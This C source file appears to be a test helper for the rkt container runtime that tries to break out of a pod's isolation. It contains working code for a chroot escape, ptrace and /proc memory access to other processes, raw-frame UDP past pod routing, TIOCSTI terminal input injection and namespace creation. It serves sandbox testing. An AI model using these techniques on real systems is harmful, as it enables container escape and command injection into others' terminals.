/* Attacks on the pod boundary, run as an app by rkt/tests/hostile.rs.
 * Statically linked, so it runs in any image.
 *
 *   attack chroot PATH     the classic chroot() escape, then mkdir PATH
 *   attack ptrace MARKER   finds a process whose command line holds
 *                          MARKER, then tries to attach to it and read
 *                          its memory
 *   attack udp-frame DST PORT  sends a UDP datagram to DST:PORT as a raw
 *                          Ethernet frame through eth0 to its gateway
 *                          (past the pod's own routing: DST may be
 *                          127.0.0.1, the host's loopback, or `gateway`)
 *   attack udp-listen PORT SECONDS  waits that long for one datagram on
 *                          PORT and prints what came, or "nothing"
 *   attack euid            prints its effective uid (as a setuid file)
 *   attack namespaces      tries to make a user namespace with clone(2)
 *                          and any namespace with clone3(2)
 *   attack tiocsti TTY TEXT  pushes TEXT and a newline as typed input
 *                          into the terminal TTY (a path, or a
 *                          descriptor number)
 *
 * Prints one line per attempt: "<what>: ok" or "<what>: <error>". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

static void report(const char *what, int failed) {
    printf("%s: %s\n", what, failed ? strerror(errno) : "ok");
    fflush(stdout);
}

static int escape_chroot(const char *target) {
    mkdir("/attack-chroot", 0755);
    report("chroot", chroot("/attack-chroot") != 0);
    for (int i = 0; i < 64; i++)
        chdir("..");
    report("chroot-out", chroot(".") != 0);
    report("mkdir", mkdir(target, 0755) != 0);
    return 0;
}

static int find(const char *marker) {
    for (int tries = 0; tries < 200; tries++) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid())
                continue;
            char path[64], cmd[4096];
            snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
            int fd = open(path, O_RDONLY);
            if (fd < 0)
                continue;
            ssize_t n = read(fd, cmd, sizeof cmd - 1);
            close(fd);
            for (ssize_t i = 0; i < n; i++)
                if (cmd[i] == 0)
                    cmd[i] = ' ';
            if (n > 0 && (cmd[n] = 0, strstr(cmd, marker)) && !strstr(cmd, "attack")) {
                closedir(d);
                return pid;
            }
        }
        if (d)
            closedir(d);
        usleep(50000);
    }
    return 0;
}

static int trace(const char *marker) {
    int pid = find(marker);
    if (!pid) {
        printf("find: no process\n");
        return 1;
    }
    report("find", 0);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    report("mem", open(path, O_RDONLY) < 0);
    snprintf(path, sizeof path, "/proc/%d/root/", pid);
    report("root", open(path, O_RDONLY | O_DIRECTORY) < 0);
    report("attach", ptrace(PTRACE_ATTACH, pid, 0, 0) != 0);
    return 0;
}

static int push(const char *tty, const char *text) {
    char what[128];
    snprintf(what, sizeof what, "tiocsti %s", tty);
    int fd = tty[0] >= '0' && tty[0] <= '9' ? atoi(tty) : open(tty, O_RDWR);
    if (fd < 0) {
        report(what, 1);
        return 1;
    }
    size_t n = strlen(text);
    for (size_t i = 0; i <= n; i++) {
        char c = i < n ? text[i] : '\n';
        if (ioctl(fd, TIOCSTI, &c) != 0) {
            report(what, 1);
            return 1;
        }
    }
    report(what, 0);
    return 0;
}

static unsigned short ip_sum(const void *data, int len) {
    const unsigned short *p = data;
    unsigned long sum = 0;
    for (; len > 1; len -= 2)
        sum += *p++;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)~sum;
}

/* The default route's gateway, else any route's, from /proc/net/route
 * (network order). */
static unsigned int gateway(void) {
    FILE *f = fopen("/proc/net/route", "r");
    char line[256];
    unsigned int dest, gw, found = 0;
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "%*s %x %x", &dest, &gw) == 2 && gw && (dest == 0 || !found))
            found = gw;
    if (f)
        fclose(f);
    return found;
}

/* The MAC address of `ip` from the ARP table, resolved first by a
 * datagram to it. */
static int neighbour(unsigned int ip, unsigned char mac[6]) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = ip};
    sendto(s, "", 0, 0, (struct sockaddr *)&to, sizeof to);
    close(s);
    char want[32], line[256], ipstr[64], hw[64];
    inet_ntop(AF_INET, &ip, want, sizeof want);
    for (int tries = 0; tries < 50; tries++) {
        usleep(20000);
        FILE *f = fopen("/proc/net/arp", "r");
        while (f && fgets(line, sizeof line, f))
            if (sscanf(line, "%63s %*s %*s %63s", ipstr, hw) == 2 && !strcmp(ipstr, want) &&
                sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
                       &mac[4], &mac[5]) == 6 && (mac[0] | mac[1] | mac[2] | mac[3] | mac[4] | mac[5])) {
                fclose(f);
                return 0;
            }
        if (f)
            fclose(f);
    }
    return -1;
}

static int udp_frame(const char *dst, const char *port) {
    char what[128];
    snprintf(what, sizeof what, "udp-frame %s:%s", dst, port);
    int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
    struct ifreq ifr = {0};
    strcpy(ifr.ifr_name, "eth0");
    if (s < 0 || ioctl(s, SIOCGIFINDEX, &ifr) != 0) {
        report(what, 1);
        return 1;
    }
    int index = ifr.ifr_ifindex;
    unsigned char own_mac[6], gw_mac[6];
    if (ioctl(s, SIOCGIFHWADDR, &ifr) != 0) {
        report(what, 1);
        return 1;
    }
    memcpy(own_mac, ifr.ifr_hwaddr.sa_data, 6);
    int q = socket(AF_INET, SOCK_DGRAM, 0);
    struct ifreq addr = {0};
    strcpy(addr.ifr_name, "eth0");
    if (ioctl(q, SIOCGIFADDR, &addr) != 0) {
        report(what, 1);
        return 1;
    }
    close(q);
    unsigned int own_ip = ((struct sockaddr_in *)&addr.ifr_addr)->sin_addr.s_addr;
    unsigned int gw = gateway();
    if (!gw || neighbour(gw, gw_mac) != 0) {
        printf("%s: no gateway\n", what);
        return 1;
    }
    unsigned char frame[128] = {0};
    struct ether_header *eth = (struct ether_header *)frame;
    memcpy(eth->ether_dhost, gw_mac, 6);
    memcpy(eth->ether_shost, own_mac, 6);
    eth->ether_type = htons(ETHERTYPE_IP);
    const char payload[] = "rkt-hostile";
    struct iphdr *ip = (struct iphdr *)(frame + sizeof *eth);
    struct udphdr *udp = (struct udphdr *)(ip + 1);
    int udp_len = sizeof *udp + sizeof payload;
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons(sizeof *ip + udp_len);
    ip->saddr = own_ip;
    if (!strcmp(dst, "gateway"))
        ip->daddr = gw;
    else
        inet_pton(AF_INET, dst, &ip->daddr);
    ip->check = ip_sum(ip, sizeof *ip);
    udp->source = htons(40000);
    udp->dest = htons(atoi(port));
    udp->len = htons(udp_len);
    memcpy(udp + 1, payload, sizeof payload);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = index, .sll_halen = 6};
    memcpy(to.sll_addr, gw_mac, 6);
    int len = sizeof *eth + sizeof *ip + udp_len;
    report(what, sendto(s, frame, len, 0, (struct sockaddr *)&to, sizeof to) != len);
    return 0;
}

static int udp_listen(const char *port, const char *seconds) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(atoi(port))};
    struct timeval t = {.tv_sec = atoi(seconds)};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t);
    if (bind(s, (struct sockaddr *)&at, sizeof at) != 0) {
        report("udp-listen", 1);
        return 1;
    }
    printf("udp-listen: ready\n");
    fflush(stdout);
    char buf[64] = {0};
    ssize_t n = recv(s, buf, sizeof buf - 1, 0);
    printf("udp-listen: %s\n", n > 0 ? buf : "nothing");
    return 0;
}

/* A child in new namespaces, by the raw calls (no libc fallback). */
static int namespaces(void) {
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    report("clone-newuser", pid < 0);
    if (pid > 0)
        waitpid(pid, 0, 0);
    struct {
        unsigned long long flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
    } args = {CLONE_NEWUSER | CLONE_NEWNET, 0, 0, 0, SIGCHLD, 0, 0, 0};
    pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0)
        _exit(0);
    report("clone3-newuser", pid < 0);
    if (pid > 0)
        waitpid(pid, 0, 0);
    /* Without namespaces, clone still works. */
    pid = syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    report("clone-plain", pid < 0);
    if (pid > 0)
        waitpid(pid, 0, 0);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 3 && !strcmp(argv[1], "chroot"))
        return escape_chroot(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "ptrace"))
        return trace(argv[2]);
    if (argc == 4 && !strcmp(argv[1], "udp-listen"))
        return udp_listen(argv[2], argv[3]);
    if (argc == 4 && !strcmp(argv[1], "udp-frame"))
        return udp_frame(argv[2], argv[3]);
    if (argc == 2 && !strcmp(argv[1], "euid"))
        return printf("euid=%d\n", (int)geteuid()) < 0;
    if (argc == 2 && !strcmp(argv[1], "namespaces"))
        return namespaces();
    if (argc == 4 && !strcmp(argv[1], "tiocsti"))
        return push(argv[2], argv[3]);
    fprintf(stderr, "usage: attack chroot PATH | ptrace MARKER | udp-frame DST PORT | "
                    "udp-listen PORT SECONDS | euid | namespaces | "
                    "tiocsti TTY TEXT\n");
    return 2;
}
